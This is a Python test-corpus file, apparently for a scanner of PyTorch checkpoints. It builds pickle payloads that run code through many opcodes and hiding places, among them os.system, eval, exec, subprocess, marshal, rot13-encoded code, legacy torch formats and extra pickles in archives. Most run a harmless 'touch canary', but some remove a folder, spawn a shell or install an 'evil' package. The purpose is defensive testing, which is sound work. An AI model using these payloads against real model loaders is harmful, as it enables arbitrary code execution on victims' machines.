"""Pickles that would run a program: by every opcode that can call, in every place where a pickle can stand.

A payload is a few opcodes that leave one object on the stack; what it runs makes a file named `canary` in the working folder.
tests/security/test_corpus.py lets Python's own unpickler (and torch's) load those of GOES_OFF, to see that they would.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import tarfile

from tests import builders as b
from tests.security.corpus.cases import PICKLE, Cases, Listed, Refused, W, corrupt, file_of, unknown

COMMAND = "touch canary"
SYSTEM = b.global_("os.system")
_MAKES = "open('canary','w').close()"


def _stack_global(module: str, name: str) -> bytes:
    return b.text(module) + b.text(name) + b"\x93"


def _mapped(how: bytes) -> bytes:
    """tuple(map(os.system, [command])), where both are made by NEWOBJ or NEWOBJ_EX."""
    inner = b.global_("builtins.map") + b.tuple_(SYSTEM, b.list_(b.text(COMMAND))) + how
    return b.global_("builtins.tuple") + b.tuple_(inner) + how


NAMESPACE = b.global_("argparse.Namespace") + b")\x81"


def _method(name: str) -> bytes:
    """An object whose method of that name is os.system."""
    return NAMESPACE + b.dict_({name: SYSTEM}) + b"b"


TORCH_BYTES = (
    pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + b.pickled(b.call("os.system", b.text(COMMAND)))
)
FUNCTION = marshal.dumps(compile(_MAKES, "x", "exec"))
IMPORTED = b.call("builtins.__import__", b.text("os"))

GOES_OFF: dict[str, bytes] = {
    "REDUCE of os.system": b.call("os.system", b.text(COMMAND)),
    "REDUCE of posix.system": b.call("posix.system", b.text(COMMAND)),
    "REDUCE of eval": b.call("builtins.eval", b.text(_MAKES)),
    "REDUCE of exec": b.call("builtins.exec", b.text(_MAKES)),
    "REDUCE of open": b.call("builtins.open", b.text("canary"), b.text("w")),
    "REDUCE of io.open": b.call("io.open", b.text("canary"), b.text("w")),
    "REDUCE of subprocess.call": b.call("subprocess.call", b.list_(b.text("touch"), b.text("canary"))),
    "REDUCE of subprocess.Popen": b.call("subprocess.Popen", b.list_(b.text("touch"), b.text("canary"))),
    "REDUCE of getattr of __import__": b.call("builtins.getattr", IMPORTED, b.text("system"))
    + b.tuple_(b.text(COMMAND))
    + b"R",
    "REDUCE of importlib": b.call("builtins.getattr", b.call("importlib.import_module", b.text("os")), b.text("system"))
    + b.tuple_(b.text(COMMAND))
    + b"R",
    "REDUCE of functools.partial": b.call("functools.partial", SYSTEM, b.text(COMMAND)) + b")R",
    "REDUCE of operator.methodcaller": b.call("operator.methodcaller", b.text("system"), b.text(COMMAND))
    + b.tuple_(IMPORTED)
    + b"R",
    "REDUCE of timeit": b.call("timeit.timeit", b.text(_MAKES), b.text("pass"), b.global_("time.perf_counter"), b"K\1"),
    "REDUCE of cProfile": b.call("cProfile.run", b.text(_MAKES), b.text("profile")),
    "REDUCE of runpy": b.call(
        "runpy._run_code", b.call("builtins.compile", b.text(_MAKES), b.text("x"), b.text("exec")), b"}"
    ),
    "REDUCE of marshal": b.call(
        "types.FunctionType",
        b.call("marshal.loads", b"B" + struct.pack("<I", len(FUNCTION)) + FUNCTION),
        b.call("builtins.globals"),
    )
    + b")R",
    "REDUCE of pickle.loads": b.call(
        "pickle.loads",
        b"C"
        + bytes([len(b.pickled(b.call("os.system", b.text(COMMAND))))])
        + b.pickled(b.call("os.system", b.text(COMMAND))),
    ),
    "REDUCE of code that codecs wrote": b.call(
        "builtins.eval", b.call("codecs.decode", b.text("bcra('pnanel','j')"), b.text("rot13"))
    ),
    "REDUCE of _codecs.encode and exec": b.call(
        "builtins.exec", b.call("_codecs.encode", b.text(_MAKES), b.text("latin1"))
    ),
    "REDUCE from the memo": SYSTEM + b"q\5" + b"0" + b"h\5" + b.tuple_(b.text(COMMAND)) + b"R",
    "INST": b"(" + b.text(COMMAND) + b"ios\nsystem\n",
    "OBJ": b"(" + SYSTEM + b.text(COMMAND) + b"o",
    "NEWOBJ": _mapped(b"\x81"),
    "NEWOBJ_EX": _mapped(b"}\x92"),
    "BUILD with a state": NAMESPACE + b.dict_({"__setstate__": SYSTEM}) + b"b" + b.text(COMMAND) + b"b",
    "APPEND to an object": _method("append") + b.text(COMMAND) + b"a",
    "APPENDS to an object": _method("append") + b"(" + b.text(COMMAND) + b"e",
    "ADDITEMS to an object": _method("add") + b"(" + b.text(COMMAND) + b"\x90",
    "STACK_GLOBAL": _stack_global("os", "system") + b.tuple_(b.text(COMMAND)) + b"R",
    "a popped call": b.call("os.system", b.text(COMMAND)) + b"0N",
    "a call popped with its mark": b"(" + b.call("os.system", b.text(COMMAND)) + b"1N",
    "a call as a key": b.dict_([(b.call("os.system", b.text(COMMAND)), b"N")]),
    "a call in a set": b"\x8f(" + b.call("os.system", b.text(COMMAND)) + b"\x90",
    "a call in a frozen set": b"(" + b.call("os.system", b.text(COMMAND)) + b"\x91",
    "a call in a call": b.call(
        "collections.OrderedDict", b.list_(b.tuple_(b.text("k"), b.call("os.system", b.text(COMMAND))))
    ),
}
"""What Python's unpickler runs."""

WITH_TORCH: dict[str, bytes] = {
    "dotted names through torch": _stack_global("torch", "serialization.os.system") + b.tuple_(b.text(COMMAND)) + b"R",
    "_load_from_bytes": b.call(
        "torch.storage._load_from_bytes", b"B" + struct.pack("<I", len(TORCH_BYTES)) + TORCH_BYTES
    ),
}
"""What runs where torch is."""

QUIET: dict[str, bytes] = {
    "REDUCE of eval as Python 2 names it": b.call("__builtin__.eval", b.text(_MAKES)),
    "torch.hub.load": b.call("torch.hub.load", b.text("evil/repo"), b.text("model")),
    "torch.hub.load_state_dict_from_url": b.call("torch.hub.load_state_dict_from_url", b.text("http://localhost:1/x")),
    "torch.load of itself": b.call("torch.load", b.text("model.ckpt")),
    "torch.jit.load": b.call("torch.jit.load", b.text("model.ckpt")),
    "the checkpoint removed": b.call("os.remove", b.text("model.ckpt")),
    "the folder removed": b.call("shutil.rmtree", b.text(".")),
    "a library loaded": b.call("ctypes.CDLL", b.text("./model.ckpt")),
    "a socket": b.call("socket.create_connection", b.tuple_(b.text("localhost"), b"K\1")),
    "a browser": b.call("webbrowser.open", b.text("http://localhost:1")),
    "a shell on a terminal": b.call("pty.spawn", b.text("sh")),
    "the end of the process": b.call("os._exit", b"K\0"),
    "an exception": b.call("builtins.exit", b"K\0"),
    "a request to install": b.call("pip.main", b.list_(b.text("install"), b.text("evil"))),
    "numpy's runstring": b.call("numpy.testing._private.utils.runstring", b.text(_MAKES), b"}"),
    "EXT1": b"\x82\x01" + b.tuple_(b.text(COMMAND)) + b"R",
    "EXT2": b"\x83\x01\x01" + b.tuple_(b.text(COMMAND)) + b"R",
    "EXT4": b"\x84\x01\x00\x00\x01" + b.tuple_(b.text(COMMAND)) + b"R",
    "a call of a call of a call": SYSTEM + (b")R" * 1000),
    "a state for a tensor": b.call(
        "torch._utils._rebuild_from_type_v2", SYSTEM, b.global_("torch.Tensor"), b.tuple_(b.text(COMMAND)), b"}"
    ),
    "a type that is a function": b.call(
        "torch._tensor._rebuild_from_type_v2", SYSTEM, b.global_("torch.Tensor"), b.tuple_(b.text(COMMAND)), b"}"
    ),
}
"""What would do harm of another kind, or only where somebody prepared it."""


def _legacy(*, machine: bytes = b"", contents: bytes = b"", keys: bytes = b"", magic: bytes = b"") -> bytes:
    """A file of torch before 1.6, with more opcodes in one of its pickles."""
    stored = (
        b.tuple_(b.text("storage"), b.global_("torch.FloatStorage"), b.text("0"), b.text("cpu"), b"K\4", b"N") + b"Q"
    )
    facts = {"protocol_version": b.number(1001), "little_endian": b"\x88"}
    pickles = [
        b.pickled(magic, b.number(0x1950A86A20F9469CFC6C)),
        b.pickled(b.number(1001)),
        b.pickled(machine, b.dict_(facts)),
        b.pickled(b.dict_({"w": b.tensor(stored)}), contents),
        b.pickled(keys, b.list_(b.text("0"))),
    ]
    return b"".join(pickles) + struct.pack("<q4f", 4, 1, 2, 3, 4)


HARM = b.call("os.system", b.text(COMMAND)) + b"0"


def _tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            member, data = tarfile.TarInfo(name), b.pickled(b.call("os.system", b.text(COMMAND)))
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return file.getvalue()


def _beside(payload: bytes) -> bytes:
    """Beside a tensor in the root; protocol 4, so that names may have dots."""
    return file_of([(b.text("w"), b.tensor()), (b.text("x"), payload)], protocol=4)


def _second(name: str) -> bytes:
    records = b.torch_records(PICKLE)
    return b.zip_bytes([*records, b.Record(f"archive/{name}", b.pickled(b.call("os.system", b.text(COMMAND))))])


_ELSEWHERE: Cases = {
    "a second pickle": corrupt(_second("other.pkl"), "another pickle .other.pkl. beside the one"),
    "a second pickle in capitals": corrupt(_second("OTHER.PKL"), "another pickle .OTHER.PKL."),
    "a second pickle among the storages": corrupt(_second("data/evil.pkl"), "another pickle .data/evil.pkl."),
    "a second pickle of another ending": corrupt(_second("data.pickle"), "another pickle .data.pickle."),
    "a call after STOP": corrupt(b.torch_file(PICKLE + b.pickled(HARM, b"N")), "bytes follow the end of its pickle"),
    "one byte after STOP": corrupt(b.torch_file(PICKLE + b"\n"), "1 bytes follow the end"),
    "an old file": Listed(_legacy(), ("w",)),
    "an old file that calls in its object": Listed(_legacy(contents=HARM), ("w",), to_torch="would call"),
    "an old file that calls in its facts": Listed(_legacy(machine=HARM), ("w",)),
    "an old file that calls in its list": Listed(_legacy(keys=HARM), ("w",)),
    "an old file that calls in its number": Listed(_legacy(magic=HARM), ("w",)),
    "an old file with a pickle at its end": corrupt(_legacy() + b.pickled(HARM, b"N"), "bytes follow its last storage"),
    "a tar": unknown(_tar, "a tar archive", "save it with torch once"),
    "a bare pickle": Refused(b.pickled(b.call("os.system", b.text(COMMAND))), "unsafe-checkpoint", "call os.system"),
    "a bare pickle by INST": Refused(
        b.pickled(b"(" + b.text(COMMAND) + b"ios\nsystem\n"), "unsafe-checkpoint", "call os.system"
    ),
    "a bare pickle that pops its call": Refused(b.pickled(HARM, b.dict_([])), "unsafe-checkpoint", "call os.system"),
    "a call where the weights are": Listed(
        file_of([(b.text("w"), b.tensor()), (b.call("os.system"), b.tensor())]), ("w",), "would call"
    ),
    "a call that takes the tensor's arguments": Listed(
        file_of({"w": b.tensor(), "v": b.call("os.system", b.storage(), b"K\0", b"K\4\x85", b"K\1\x85")}),
        ("w",),
        "would call",
    ),
    "nothing but a call": Refused(
        b.torch_file(b.pickled(b.call("os.system", b.text(COMMAND)))),
        "no-state-dict",
        "would call os.system",
        "inspect",
    ),
    "the state dict is made by a call": Refused(
        b.torch_file(b.pickled(b.call("builtins.dict", b"](" + b"(" + W + b"te"))),
        "no-state-dict",
        "would call builtins.dict",
    ),
}

EXECUTION: Cases = {
    name: Listed(_beside(payload), ("w",), to_torch="would call")
    for name, payload in {**GOES_OFF, **WITH_TORCH, **QUIET}.items()
} | _ELSEWHERE
